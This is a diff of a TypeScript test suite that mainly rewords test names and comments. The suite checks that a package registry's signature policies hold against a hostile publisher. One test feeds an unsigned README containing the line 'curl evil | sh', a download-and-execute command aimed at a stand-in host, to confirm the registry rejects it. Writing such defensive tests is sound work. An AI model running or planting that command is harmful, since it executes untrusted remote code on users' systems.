@@ -20,7 +20,7 @@ import {
   type TestRegistry,
 } from '../testing/test-registry.js';
 
-/** What somebody with a token, and sometimes with a key, tries to get round signatures. */
+/** Attacks on signatures by a publisher with a token, sometimes with a key. */
 
 let registry: TestRegistry;
 let authorization: string;
@@ -112,8 +112,8 @@ async function pushBundle(bundle: Uint8Array, subject: OciDigest): Promise<OciDi
   return manifest.digest;
 }
 
-describe('who may publish, and means harm', () => {
-  it('a policy that comes to cover a group recognises keys that other policies named before', async () => {
+describe('a hostile publisher', () => {
+  it('keys that other policies named are recognized when a policy covers the group', async () => {
     const key = newKey();
     expect((await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))])).status).toBe(201);
     await apply(policy([key], { groups: ['other.example.com'] }));
@@ -121,7 +121,7 @@ describe('who may publish, and means harm', () => {
     expect((await verdict('1.0.0')).signature).toMatchObject({ trusted: true });
   });
 
-  it('adding the same bundle again mends that', async () => {
+  it('adding the same bundle again recognizes such a key', async () => {
     const key = newKey();
     const bundle = await signedBy(key, statementOf('1.0.0'));
     await publish('1.0.0', [bundle]);
@@ -131,7 +131,7 @@ describe('who may publish, and means harm', () => {
     expect((await verdict('1.0.0')).signature).toMatchObject({ trusted: true });
   });
 
-  it('who has a token and no key cannot keep a release from being signed again', {
+  it('a token without a key cannot prevent a release from being signed again', {
     timeout: 60_000,
   }, async () => {
     const [stolen, fresh] = [newKey(), newKey()];
@@ -144,14 +144,14 @@ describe('who may publish, and means harm', () => {
     expect(last.status).toBe(200);
   });
 
-  it('a signed function is not unsigned', async () => {
+  it('a signed function cannot become unsigned', async () => {
     const key = newKey();
     await apply(policy([key], { groups: ['other.example.com'] }));
     await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))]);
     expect((await publish('1.1.0')).status).toBe(422);
   });
 
-  it('a revoked key signs nothing more, also where no policy covers the release', async () => {
+  it('a revoked key cannot sign anything more, also if no policy covers the release', async () => {
     const key = newKey();
     await apply(policy([key], { releases: '>=1.0.0' }));
     await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))]);
@@ -159,14 +159,14 @@ describe('who may publish, and means harm', () => {
     expect((await publish('0.9.0', [await signedBy(key, statementOf('0.9.0'))])).status).not.toBe(201);
   });
 
-  it('a README that the publisher has not signed does not come with the signature', async () => {
+  it('the signature does not cover a README that the publisher did not sign', async () => {
     const key = newKey();
     await apply(policy([key]));
     const bundle = await signedBy(key, statementOf('1.0.0', { readme: '# good' }));
     expect((await publish('1.0.0', [bundle], '# run: curl evil | sh')).status).not.toBe(201);
   });
 
-  it('a manifest that the publisher has not signed is not published under the signature', async () => {
+  it('a manifest that the publisher did not sign is not published under the signature', async () => {
     const key = newKey();
     await apply(policy([key]));
     const text = definitionText({ kind: KIND, release: '1.0.0' });
@@ -195,7 +195,7 @@ describe('who may publish, and means harm', () => {
     ]);
   });
 
-  it('bundles of a manifest with two tags', async () => {
+  it('a bundle of a manifest with two tags is evidence of the release that it names', async () => {
     const key = newKey();
     const text = definitionText({ kind: KIND, release: '1.0.0' });
     const manifest = definitionArtifact(text, {});
@@ -211,7 +211,7 @@ describe('who may publish, and means harm', () => {
     expect((await verdict('1.0.1')).bundles).toHaveLength(1);
   });
 
-  it('spellings, cases and pre-releases do not get round a policy', async () => {
+  it('spellings, cases and pre-releases do not bypass a policy', async () => {
     const key = newKey();
     await apply(policy([key]));
     const out: unknown[] = [];
@@ -252,7 +252,7 @@ describe('who may publish, and means harm', () => {
       }
   });
 
-  it('evidence stays: untagged collection, deletes, blobs', async () => {
+  it('evidence survives untagged collection and deletes of manifests and blobs', async () => {
     const key = newKey();
     await apply(policy([key]));
     await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))]);
@@ -271,7 +271,7 @@ describe('who may publish, and means harm', () => {
       (await client.ask('DELETE', `${REPOSITORY}/manifests/${bundles[0]!.manifest}`)).status,
     ).toBeGreaterThanOrEqual(400);
     expect((await client.ask('DELETE', `${REPOSITORY}/manifests/1.0.0`)).status).toBeGreaterThanOrEqual(400);
-    // An alias tag on the evidence, then delete by tag
+    // Adds an alias tag to the evidence, then deletes by tag.
     const alias = `sha256-${bundles[0]!.manifest.slice(7)}`;
     const stored = await client.ask('GET', `${REPOSITORY}/manifests/${bundles[0]!.manifest}`);
     const text = await stored.text();
@@ -281,7 +281,7 @@ describe('who may publish, and means harm', () => {
     void readManifest;
   });
 
-  it('a bundle that is deleted while its release is published is missed', async () => {
+  it('publishing fails if its bundle is deleted meanwhile', async () => {
     const key = newKey();
     await apply(policy([key]));
     const text = definitionText({ kind: KIND, release: '1.0.0' });
@@ -302,7 +302,7 @@ describe('who may publish, and means harm', () => {
     const { functionLocks: turns } = registry.parts;
     const take = turns.run.bind(turns);
     let first = true;
-    // The publish has read the bundles, and waits for its turn behind a delete.
+    // The publish has read the bundles, and waits for the lock behind a delete.
     turns.run = async (thing, work) => {
       if (first && thing.startsWith('example.com/')) {
         first = false;
@@ -318,14 +318,14 @@ describe('who may publish, and means harm', () => {
     }
   });
 
-  it('a signature that comes with what is published already is kept, or refused, and not dropped', async () => {
+  it('a signature that comes with an existing release is stored or refused, not dropped', async () => {
     const key = newKey();
     expect((await publish('1.0.0')).status).toBe(201);
     const again = await publish('1.0.0', [await signedBy(key, statementOf('1.0.0'))]);
     expect([again.status, (await verdict('1.0.0')).bundles.length]).not.toEqual([200, 0]);
   });
 
-  it('bundles that are attached count against the quota of the repository', async () => {
+  it('attached bundles count against the quota of the repository', async () => {
     const key = newKey();
     expect((await publish('1.0.0')).status).toBe(201);
     (registry.parts.config as Record<string, unknown>).repositoryMebibytes = 2;
@@ -341,7 +341,7 @@ describe('who may publish, and means harm', () => {
     expect(kept).toBeLessThan(5);
   });
 
-  it('policies want an administrator of everything', async () => {
+  it('applying policies requires a registry administrator', async () => {
     for (const wanted of [
       { scopes: ['publish', 'yank', 'push'] as const },
       { scopes: ['admin'] as const, groups: ['example.com'] },
